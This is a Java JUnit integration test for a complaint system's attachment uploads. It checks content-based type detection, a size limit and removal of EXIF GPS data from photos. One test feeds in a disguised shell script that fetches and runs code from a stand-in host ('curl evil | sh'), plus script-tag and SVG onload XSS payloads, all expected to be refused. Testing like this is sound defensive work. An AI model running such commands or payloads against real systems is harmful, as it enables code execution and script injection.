package org.anju.security;

import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Map;

import javax.imageio.ImageIO;

import org.anju.support.ApiTest;
import org.anju.support.Fixtures.ProjectFixture;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.web.servlet.MvcResult;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.httpBasic;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;

/** Uploads: the type comes from the content, the size is bounded, and photos lose their EXIF (GPS) metadata. */
class UploadIT extends ApiTest {

	ProjectFixture p;

	long complaint;

	@BeforeEach
	void complaint() throws Exception {
		p = fixtures.project();
		complaint = post("/api/v1/complaints", p.agent(), Map.of("residentId", p.residentIds().get(0), "channel",
				"WECHAT", "content", "墙面渗水，见照片")).expect(201).get("id").asLong();
	}

	MvcResult upload(String name, String type, byte[] bytes) throws Exception {
		return mvc.perform(multipart("/api/v1/complaints/" + complaint + "/attachments")
			.file(new MockMultipartFile("file", name, type, bytes))
			.with(httpBasic(p.agent(), PASSWORD))).andReturn();
	}

	@Test
	void aScriptOrPageRenamedToAPhotoIsRefused() throws Exception {
		assertThat(upload("photo.png", "image/png", "#!/bin/sh\ncurl evil | sh\n".getBytes()).getResponse().getStatus())
			.isEqualTo(400);
		assertThat(upload("photo.jpg", "image/jpeg",
				"<html><script>alert(1)</script></html>".getBytes()).getResponse().getStatus()).isEqualTo(400);
		assertThat(upload("photo.png", "image/png", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"
			.getBytes()).getResponse().getStatus()).isEqualTo(400);
	}

	@Test
	void aFileOverTheLimitIsRefused() throws Exception {
		byte[] big = new byte[10 * 1024 * 1024 + 1];
		byte[] png = png(4, 4);
		System.arraycopy(png, 0, big, 0, png.length);
		MvcResult result = upload("huge.png", "image/png", big);
		assertThat(result.getResponse().getStatus()).isEqualTo(400);
		assertThat(result.getResponse().getContentAsString()).contains("larger than");
	}

	@Test
	void aPhotosExifAndGpsPositionAreNotKept() throws Exception {
		byte[] photo = withExif(jpeg(32, 24), "GPSLatitude 22.5431 N GPSLongitude 113.9344 E Canon");
		assertThat(new String(photo, StandardCharsets.ISO_8859_1)).contains("Exif", "GPSLatitude");
		MvcResult stored = upload("IMG_0001.jpg", "image/jpeg", photo);
		assertThat(stored.getResponse().getStatus()).isEqualTo(201);
		long id = json.readTree(stored.getResponse().getContentAsString()).get("id").asLong();

		byte[] served = get("/api/v1/complaints/" + complaint + "/attachments/" + id, p.agent()).result().getResponse()
			.getContentAsByteArray();
		assertThat(new String(served, StandardCharsets.ISO_8859_1)).doesNotContain("Exif", "GPSLatitude", "Canon");
		BufferedImage image = ImageIO.read(new ByteArrayInputStream(served));
		assertThat(image).as("still a picture").isNotNull();
		assertThat(image.getWidth()).isEqualTo(32);
		assertThat(image.getHeight()).isEqualTo(24);
	}

	static byte[] jpeg(int width, int height) throws Exception {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		ImageIO.write(new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB), "jpg", out);
		return out.toByteArray();
	}

	static byte[] png(int width, int height) throws Exception {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		ImageIO.write(new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB), "png", out);
		return out.toByteArray();
	}

	/** Puts an APP1 "Exif" segment (as cameras and phones write it) right after the JPEG's start marker. */
	static byte[] withExif(byte[] jpeg, String text) {
		byte[] exif = ("Exif\0\0" + text).getBytes(StandardCharsets.ISO_8859_1);
		int length = exif.length + 2;
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		out.write(jpeg, 0, 2);
		out.write(0xFF);
		out.write(0xE1);
		out.write(length >> 8);
		out.write(length & 0xFF);
		out.write(exif, 0, exif.length);
		out.write(jpeg, 2, jpeg.length - 2);
		return out.toByteArray();
	}

}
